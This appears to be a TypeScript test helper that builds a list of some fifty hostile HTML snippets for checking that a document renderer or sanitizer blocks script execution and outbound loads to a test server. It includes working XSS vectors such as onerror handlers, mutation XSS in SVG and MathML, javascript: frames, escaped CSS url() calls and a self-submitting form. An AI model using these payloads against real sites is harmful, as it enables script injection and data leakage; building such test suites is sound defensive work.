/**
 * Returns attacks that a document must not succeed with, as [description, content]. Each one fetches `/<number>` of
 * `server` or sets `pwned` on a reachable window. The last ones swallow the content that follows them.
 */
export function hostileDocuments(server: string): [string, string][] {
  let count = 0;
  const url = () => `${server}/${(count += 1)}`;
  const run = (target: string) => `try{${target}.pwned=1}catch(e){};new Image().src='${url()}'`;
  return [
    ['a script', `<script>${run('top')}</script>`],
    ['an external script', `<script src="${url()}"></script>`],
    ['an external module', `<script type="module">import '${url()}'</script>`],
    ['an event handler', `<img src="x" onerror="${run('window')}">`],
    ['an event handler of the body', `<body onload="${run('parent')}"><p>Text</p></body>`],
    ['an event handler of an SVG image', `<svg onload="${run('top')}"></svg>`],
    ['an event handler without quotes', `<img src=x onerror=top.pwned=1;new/**/Image().src='${url()}'>`],
    ['an event handler in mixed case', `<ImG sRc=x OnErRoR="${run('top')}">`],
    ['an event handler after a slash', `<img/src="x"/onerror="${run('top')}">`],
    ['a script in broken markup', `<<script>${run('top')}//<</script>`],
    ['a script in a comment that ends early', `<!--><img src=x onerror="${run('top')}">-->`],
    ['a script in a title', `<title><img src=x onerror="${run('top')}"></title>`],
    ['a script in noscript', `<noscript><p title="</noscript><img src=x onerror='${url()}'>"></noscript>`],
    ['a script that mutates in SVG', `<svg><style><img src=x onerror="${run('top')}"></style></svg>`],
    [
      'a script that mutates in MathML',
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=top.pwned=1&gt;"><img src="${url()}">`,
    ],
    [
      'a frame that runs a script',
      `<iframe src="javascript:top.pwned=1"></iframe><iframe src="${url()}"></iframe>`,
    ],
    [
      'a frame with a document',
      `<iframe srcdoc="<script>top.pwned=1</script><img src='${url()}'>"></iframe>`,
    ],
    ['an object', `<object data="${url()}"></object>`],
    ['an embedded file', `<embed src="${url()}">`],
    ['an image', `<img src="${url()}">`],
    ['an image without a scheme', `<img src="${url().replace('http:', '')}">`],
    ['an image for dense screens', `<img srcset="${url()} 1x, ${url()} 2x" src="data:,">`],
    ['a picture', `<picture><source srcset="${url()}"><img alt="x"></picture>`],
    ['an image button', `<input type="image" src="${url()}">`],
    [
      'the background of a table',
      `<table background="${url()}"><tr><td background="${url()}">x</td></tr></table>`,
    ],
    [
      'video and audio',
      `<video src="${url()}" poster="${url()}" autoplay></video><audio src="${url()}" autoplay></audio>`,
    ],
    ['a style sheet', `<link rel="stylesheet" href="${url()}">`],
    ['a prefetch', `<link rel="prefetch" href="${url()}"><link rel="preload" as="image" href="${url()}">`],
    ['a preconnect', `<link rel="preconnect" href="${server}"><link rel="dns-prefetch" href="${server}">`],
    ['a favicon', `<link rel="icon" href="${url()}"><link rel="manifest" href="${url()}">`],
    ['a background image', `<p style="background: url(${url()})">Text</p>`],
    ['a background image with escapes', `<p style="background: \\75\\72\\6c(${url()})">Text</p>`],
    [
      'a background image with comments',
      `<p style="background: u/**/rl(${url()}); background:url(/**/${url()})">x</p>`,
    ],
    ['a background image for dense screens', `<p style="background: image-set('${url()}' 1x)">Text</p>`],
    ['a border image', `<p style="border: 9px solid; border-image-source: URL('${url()}')">Text</p>`],
    ['a bullet', `<ul style="list-style-image: url(${url()})"><li>Text</li></ul>`],
    ['an imported style sheet', `<style>@import '${url()}'; @import url(${url()}) screen;</style>`],
    [
      'a style rule',
      `<style>body { background: url('${url()}') } p::after { content: url(${url()}) }</style><p>x</p>`,
    ],
    [
      'a style rule in a condition',
      `<style>@media all { @supports (color: red) { p { background: url(${url()}) } } }</style><p>x</p>`,
    ],
    [
      'a font',
      `<style>@font-face { font-family: X; src: url(${url()}) } p { font-family: X }</style><p>x</p>`,
    ],
    ['a CSS variable', `<style>:root { --x: url(${url()}) } p { background: var(--x) }</style><p>x</p>`],
    ['a style that ends its element', `<style>p::after { content: '</style><img src="${url()}">' }</style>`],
    ['an external SVG shape', `<svg><use href="${url()}#x"></use><image href="${url()}"/></svg>`],
    [
      'an external filter',
      `<p style="filter: url(${url()}#x); mask: url(${url()}); cursor: url(${url()}), auto">x</p>`,
    ],
    [
      'an animated attribute',
      `<svg><animate attributeName="href" values="javascript:top.pwned=1"/><image href="${url()}"/></svg>`,
    ],
    ['a refresh', `<meta http-equiv="refresh" content="0; url=${url()}">`],
    ['a base address', `<base href="${server}/"><img src="${(count += 1)}">`],
    [
      'a form that submits itself',
      `<form action="${url()}" id="f"><input name="a"></form><script>f.submit()</script>`,
    ],
    [
      'a portal and a fenced frame',
      `<portal src="${url()}"></portal><fencedframe src="${url()}"></fencedframe>`,
    ],
    ['a frame set', `<frameset><frame src="${url()}"></frameset>`],
    [
      'an entity in a scheme',
      `<a href="java&#x09;script:top.pwned=1">x</a><img src="&#104;ttp:${url().slice(5)}">`,
    ],
    [
      'a template',
      `<template><img src="${url()}"></template><div><template shadowrootmode="open"><img src="${url()}"></template></div>`,
    ],
    ['an XML style sheet', `<?xml-stylesheet href="${url()}"?><xml><img src="${url()}"></xml>`],
    ['a script in plain text', `<plaintext></plaintext><img src="${url()}">`],
    ['a script in a text area', `<textarea><img src=x onerror="${run('top')}">`],
  ];
}
